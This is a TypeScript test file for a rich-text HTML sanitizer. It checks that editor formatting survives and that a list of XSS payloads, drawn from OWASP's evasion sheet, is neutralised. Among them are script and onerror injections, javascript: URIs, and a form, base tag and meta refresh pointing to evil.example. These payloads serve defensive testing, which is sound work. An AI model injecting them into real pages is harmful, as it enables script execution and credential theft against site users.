import { sanitizeAnswer, sanitizeRichText } from './html.ts'

const kept = [
  '<p>Plain <strong>bold</strong> <em>italic</em> <u>under</u> <s>struck</s></p>',
  '<h1>1</h1><h2>2</h2><h3>3</h3>',
  '<ol><li data-list="bullet"><span class="ql-ui" contenteditable="false"></span>a</li></ol>',
  '<ol><li data-list="ordered" class="ql-indent-2">a</li></ol>',
  '<p><br /></p>',
  '<blockquote>from an imported text</blockquote><p class="ql-align-center">centered</p>',
  '<p>한국어 문장은 그대로 둡니다. 1 &lt; 2 &amp; 3</p>',
]

it.each(kept)('keeps the output of the toolbar: %s', (html) => {
  expect(sanitizeRichText(html)).toBe(html)
  expect(sanitizeRichText(sanitizeRichText(html))).toBe(html)
})

it.each([
  ['<a href="https://example.com">a</a>', '<a href="https://example.com" target="_blank" rel="noopener noreferrer">a</a>'],
  ['<a href="mailto:a@example.com">a</a>', '<a href="mailto:a@example.com" target="_blank" rel="noopener noreferrer">a</a>'],
  ['<a href="tel:+8221234">a</a>', '<a href="tel:+8221234" target="_blank" rel="noopener noreferrer">a</a>'],
  ['<img src="/media/a.png" alt="b">', '<img alt="b" src="/media/a.png" />'],
  ['<img src="data:image/png;base64,iVBORw0KGgo=">', '<img src="data:image/png;base64,iVBORw0KGgo=" />'],
  ['<video src="/media/a.mp4"></video>', '<video src="/media/a.mp4" class="ql-video" controls loop muted autoplay playsinline></video>'],
  [
    '<iframe class="ql-video" src="https://www.youtube.com/embed/abc_-1"></iframe>',
    '<iframe src="https://www.youtube.com/embed/abc_-1" class="ql-video" allowfullscreen></iframe>',
  ],
])('turns %s into %s', (html, safe) => {
  expect(sanitizeRichText(html)).toBe(safe)
})

/** Ways to run a script or to leave the page, after OWASP's filter evasion sheet. */
const attacks = [
  '<script>alert(1)</script>',
  '<ScRiPt src=//evil.example/x.js></ScRiPt>',
  '<img src=x onerror=alert(1)>',
  '<img src="javascript:alert(1)">',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  '<svg><script>alert(1)</script></svg>',
  '<svg onload=alert(1)>',
  '<math><mi xlink:href="javascript:alert(1)">a</mi></math>',
  '<a href="javascript:alert(1)">a</a>',
  '<a href="jav&#x09;ascript:alert(1)">a</a>',
  '<a href=" &#14; javascript:alert(1)">a</a>',
  '<a href="data:text/html,<script>alert(1)</script>">a</a>',
  '<a href="//evil.example">a</a>',
  '<a href="vbscript:x">a</a>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe src="https://evil.example/embed/x"></iframe>',
  '<iframe src="https://www.youtube.com.evil.example/embed/x"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<video src="https://evil.example/a.mp4" onplay=alert(1)></video>',
  '<video><source src="x" onerror="alert(1)"></video>',
  '<p style="background:url(javascript:alert(1))">a</p>',
  '<div style="position:fixed;inset:0">a</div>',
  '<form action="https://evil.example"><input name=password></form>',
  '<base href="https://evil.example">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<object data="x"></object><embed src="x">',
  '<p class="nav-admin" id="root">a</p>',
  '<!--><script>alert(1)</script>-->',
  '<<script>alert(1)//<</script>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<template><script>alert(1)</script></template>',
]

it.each(attacks)('neutralizes %s', (html) => {
  for (const safe of [sanitizeRichText(html), sanitizeAnswer(html)]) {
    expect(safe).not.toMatch(/<(?:script|svg|math|form|input|base|meta|object|embed|style|template|noscript|source|div)\b/i)
    expect(safe).not.toMatch(/<[^>]*\s(?:on\w+|style|srcdoc|id)\s*=/i)
    expect(safe).not.toMatch(/<[^>]*(?:javascript|vbscript|data:text|svg\+xml|evil\.example)/i)
    expect(safe).not.toMatch(/nav-admin/)
  }
})

it('removes pictures and videos of respondents', () => {
  expect(sanitizeAnswer('<p>a<img src="/media/a.png"><video src="/media/a.mp4"></video></p>')).toBe('<p>a</p>')
})

it('bounds the nesting', () => {
  const safe = sanitizeRichText(`${'<p><strong>'.repeat(10_000)}a${'</strong></p>'.repeat(10_000)}`)
  expect(safe.match(/<strong>/g)!.length).toBeLessThanOrEqual(40)
  expect(safe).toContain('a')
})
